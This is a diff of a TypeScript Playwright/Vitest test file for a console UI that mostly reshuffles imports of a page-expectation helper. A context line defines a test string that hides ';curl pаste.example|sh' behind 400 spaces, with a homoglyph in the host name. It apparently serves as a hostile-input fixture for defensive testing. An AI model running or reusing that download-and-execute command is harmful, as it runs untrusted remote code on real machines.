@@ -1,12 +1,18 @@
 import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { AxeBuilder } from '@axe-core/playwright';
-import { type Page, expect as expectAnyPage } from '@playwright/test';
+import { type Page } from '@playwright/test';
 import { consoleOf, ownClient, verifies } from '@palyra/testkit';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import * as z from 'zod';
 import { ROOT } from '../harness.ts';
-import { type ConsoleStage, type Visit, openStage, visit as visitConsole } from './harness.ts';
+import {
+  type ConsoleStage,
+  type Visit,
+  openStage,
+  visit as visitConsole,
+  expectPage,
+} from './harness.ts';
 import { heightOf, livePartsIn, scrollTo } from './story-list.ts';
 
 const corpusShape = z.array(z.object({ name: z.string(), text: z.string() }));
@@ -21,7 +27,6 @@ const [EVIL_NAME = ''] = corpus('file-names');
 const FAR_RIGHT = `++ok${' '.repeat(400)};curl p\u0430ste.example|sh`;
 
 /** Other tests take their share of the machine. */
-const expectPage = expectAnyPage.configure({ timeout: 30_000 });
 
 const held: { stage?: ConsoleStage } = {};
 function stage(): ConsoleStage {
